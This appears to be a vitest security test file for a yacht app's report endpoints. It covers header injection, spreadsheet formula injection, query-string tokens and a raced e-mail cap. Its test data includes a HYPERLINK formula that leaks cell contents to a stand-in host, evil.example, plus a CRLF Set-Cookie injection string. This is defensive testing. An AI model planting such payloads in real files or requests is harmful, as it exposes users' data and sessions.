import { REPORT_EMAILS_PER_DAY } from '@contracts/reports';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { workbook } from '../../../../testing/report-files';
import { type ReportTestServer, reportServer, TRIP } from '../../../../testing/report-fixture';

/**
 * Attacks on the report calls that the code already withstands, kept so it goes on doing so:
 * header injection through the vessel's name, formulas in workbooks, tokens in the query, and
 * the daily e-mail cap raced from two ways in at once.
 */
let t: ReportTestServer;
beforeAll(async () => {
  t = await reportServer();
});
afterAll(() => t.s.close());

const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")';

describe('file names and cells', () => {
  it('keeps CR, LF and quotes of a vessel name out of content-disposition and the mail', async () => {
    await t.s.db.query('UPDATE vessels SET name = $1 WHERE id = $2', [
      'M/Y "Au\r\nSet-Cookie: x=1" Ω',
      t.aurora,
    ]);
    const res = await t.page(
      'captain',
      { report: 'accesscards', yachtid: String(t.aurora) },
      'AccessCardReport',
    );
    expect(res.status).toBe(200);
    expect(res.headers.get('set-cookie')).toBeNull();
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="M-Y -Au-Set-Cookie- x=1- _ Access cards 2026-11-15.pdf"; filename*=UTF-8''M-Y%20-Au-Set-Cookie-%20x%3D1-%20%CE%A9%20Access%20cards%202026-11-15.pdf`,
    );
    await t.s.db.query("UPDATE vessels SET name = 'M/Y Aurora' WHERE id = $1", [t.aurora]);
  });

  it('writes a guest or crew name that looks like a formula as text, never as a formula', async () => {
    const guest = t.saveBody({ guestId: t.newId(), firstName: EVIL, lastName: '+cmd' });
    expect(await t.op('captain', 'guest/save', guest)).toMatchObject({ status: 'applied' });
    const [user] = await t.s.db.query<{ first_name: string }>('SELECT first_name FROM users WHERE id = $1', [
      t.userId.officer,
    ]);
    await t.s.db.query('UPDATE users SET first_name = $1 WHERE id = $2', [EVIL, t.userId.officer]);
    try {
      const trip = { pod: 'A', poa: 'B', depDate: TRIP.departureDate, arrDate: TRIP.arrivalDate };
      for (const [type, extra] of [
        ['crewandguests', { ...trip, guest: guest.guestId }],
        ['personaldetails', {}],
        ['accesscards', {}],
      ] as const) {
        const res = await t.page(
          'captain',
          {
            report: type,
            yachtid: String(t.aurora),
            crew: String(t.crewId.officer),
            format: 'xlsx',
            ...extra,
          },
          type === 'accesscards' ? 'AccessCardReport' : 'yachtcrewreport',
        );
        expect(res.status).toBe(200);
        const cells: ExcelJS.Cell[] = [];
        (await workbook(res.body)).eachSheet((sheet) =>
          sheet.eachRow((row) => row.eachCell((cell) => void cells.push(cell))),
        );
        const evil = cells.filter((c) => String(c.value).includes('HYPERLINK') || c.value === '+cmd');
        expect(evil.length).toBeGreaterThan(0);
        for (const c of evil)
          expect({ type, cell: c.type }).toEqual({ type, cell: ExcelJS.ValueType.String });
      }
    } finally {
      await t.s.db.query('UPDATE users SET first_name = $1 WHERE id = $2', [
        user!.first_name,
        t.userId.officer,
      ]);
    }
  });
});

describe('the access token in the query', () => {
  const path = () => `/cmspages/AccessCardReport.aspx?yachtid=${t.aurora}`;
  it('takes an access token only: no refresh token, nothing unsigned or oversized', async () => {
    const { refreshToken } = await t.s.login('captain@demo.yacht');
    for (const token of [refreshToken, 'x.y.z', 'a'.repeat(5000)])
      expect((await t.s.request(`${path()}&accessToken=${token}`)).status).toBe(401);
    expect((await t.s.request(`${path()}&accessToken=${t.token.captain}`)).status).toBe(200);
  });

  it("lets the header win: a bad header is not rescued by the query, a crew member's query token gets no more", async () => {
    const bad = await t.s.request(`${path()}&accessToken=${t.token.captain}`, {
      headers: { authorization: 'Bearer nope' },
    });
    expect(bad.status).toBe(401);
    const crew = await t.s.request(`${path()}&accessToken=${t.token.captain}`, { token: t.token.crew });
    expect(crew.status).toBe(403);
  });
});

describe('the daily e-mail cap raced', () => {
  it(`sends at most ${REPORT_EMAILS_PER_DAY} when online and queued e-mails arrive at once`, async () => {
    const body = { yachtId: t.aurora, reportType: 'accesscards', crewList: [t.crewId.officer] };
    const mails = t.s.mail.sent.length;
    await Promise.all(
      Array.from({ length: REPORT_EMAILS_PER_DAY + 6 }, (_, i) =>
        i % 2
          ? t.s.request('/emailreport', { method: 'POST', token: t.token.purser, body: JSON.stringify(body) })
          : t.s.post(
              '/sync',
              {
                cursor: 0,
                ops: [
                  { id: `01JRACE${String(i).padStart(19, '0')}`, op: 'report/email', body, baseVersion: 0 },
                ],
              },
              t.token.purser,
            ),
      ),
    );
    await t.s.drainJobs();
    const [runs] = await t.s.db.query<{ n: number }>(
      "SELECT count(*)::int AS n FROM report_runs WHERE user_id = $1 AND how = 'email'",
      [t.userId.purser],
    );
    expect(runs!.n).toBe(REPORT_EMAILS_PER_DAY);
    expect(t.s.mail.sent.length - mails).toBe(REPORT_EMAILS_PER_DAY);
  });
});
